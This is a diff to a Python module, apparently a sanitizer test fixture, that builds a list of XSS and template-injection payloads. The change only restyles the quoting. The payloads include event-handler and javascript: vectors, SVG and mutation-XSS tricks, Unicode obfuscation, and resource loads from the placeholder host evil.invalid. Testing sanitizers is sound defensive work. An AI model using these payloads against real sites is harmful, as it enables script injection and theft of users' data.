@@ -29,24 +29,24 @@ _FORMS = (
     "<video><source onerror={c}></video>",
     "<audio src=x onerror={c}></audio>",
     "<marquee onstart={c}>x</marquee>",
-    "<iframe srcdoc=\"<script>parent.{c2}</script>\"></iframe>",
-    "<iframe src=\"javascript:parent.{c2}\"></iframe>",
-    "<object data=\"javascript:{c2}\"></object>",
-    "<embed src=\"javascript:{c2}\">",
+    '<iframe srcdoc="<script>parent.{c2}</script>"></iframe>',
+    '<iframe src="javascript:parent.{c2}"></iframe>',
+    '<object data="javascript:{c2}"></object>',
+    '<embed src="javascript:{c2}">',
     "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={c}>x</b>",
     # SVG and MathML
     "<svg onload={c}>",
     "<svg><script>{c}</script></svg>",
     "<svg><animate onbegin={c} attributeName=x dur=1s></svg>",
-    "<svg><a xlink:href=\"javascript:{c2}\"><text y=20>x</text></a></svg>",
+    '<svg><a xlink:href="javascript:{c2}"><text y=20>x</text></a></svg>',
     "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
     # out of an attribute
-    "\" onmouseover=\"{c2}\" autofocus onfocus=\"{c2}\" x=\"",
+    '" onmouseover="{c2}" autofocus onfocus="{c2}" x="',
     "' onfocus='{c}' autofocus x='",
     "` onfocus=`{c}` autofocus",
-    "\" style=\"animation-name:x\" onanimationstart=\"{c2}",
-    "x\" formaction=\"javascript:{c2}\" x=\"",
+    '" style="animation-name:x" onanimationstart="{c2}',
+    'x" formaction="javascript:{c2}" x="',
     # addresses
     "javascript:{c}",
     "JaVaScRiPt:{c}",
@@ -57,7 +57,7 @@ _FORMS = (
     "vbscript:msgbox({n})",
     "https://evil.invalid/{n}",
     # templates
-    "{{{{constructor.constructor(\"{c2}\")()}}}}",
+    '{{{{constructor.constructor("{c2}")()}}}}',
     "{{% import os %}}{{{{ 7*7 }}}}",
     "${{{c}}}",
     "<%= {c} %>",
@@ -66,7 +66,7 @@ _FORMS = (
     "</style><script>{c}</script><style>",
     "<style>@import '//evil.invalid/{n}.css';</style>",
     "<link rel=stylesheet href=//evil.invalid/{n}.css>",
-    "<div style=\"background:url(//evil.invalid/{n}.png)\">x</div>",
+    '<div style="background:url(//evil.invalid/{n}.png)">x</div>',
     # Unicode
     "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
     "<img src=x o\u200bnerror={c}>",
@@ -74,18 +74,18 @@ _FORMS = (
     "<script\u2028>{c}</script>",
     "+ADw-script+AD4-{c}+ADw-/script+AD4-",
     # parsed twice
-    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
+    '<noscript><p title="</noscript><img src=x onerror={c}>">',
     "<!--><img src=x onerror={c}>-->",
     "<![CDATA[<img src=x onerror={c}>]]>",
     "<textarea></textarea><img src=x onerror={c}>",
     "<title></title><img src=x onerror={c}>",
     "<template><img src=x onerror={c}></template>",
-    "<form action=\"javascript:{c2}\"><button>x</button></form>",
+    '<form action="javascript:{c2}"><button>x</button></form>',
     "<base href=//evil.invalid/>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.invalid/{n}\">",
-    "hx-on::load=\"{c2}\" <b hx-get=//evil.invalid/{n} hx-trigger=load>x</b>",
+    '<meta http-equiv=refresh content="0;url=//evil.invalid/{n}">',
+    'hx-on::load="{c2}" <b hx-get=//evil.invalid/{n} hx-trigger=load>x</b>',
     "<context-meter src=//evil.invalid/ session=x></context-meter>",
-)  # fmt: skip
+)
 ATTACKS = tuple(
     form.format(n=at, c=_CALL.format(n=at).replace("'", "`"), c2=_CALL.format(n=at)) for at, form in enumerate(_FORMS)
 )
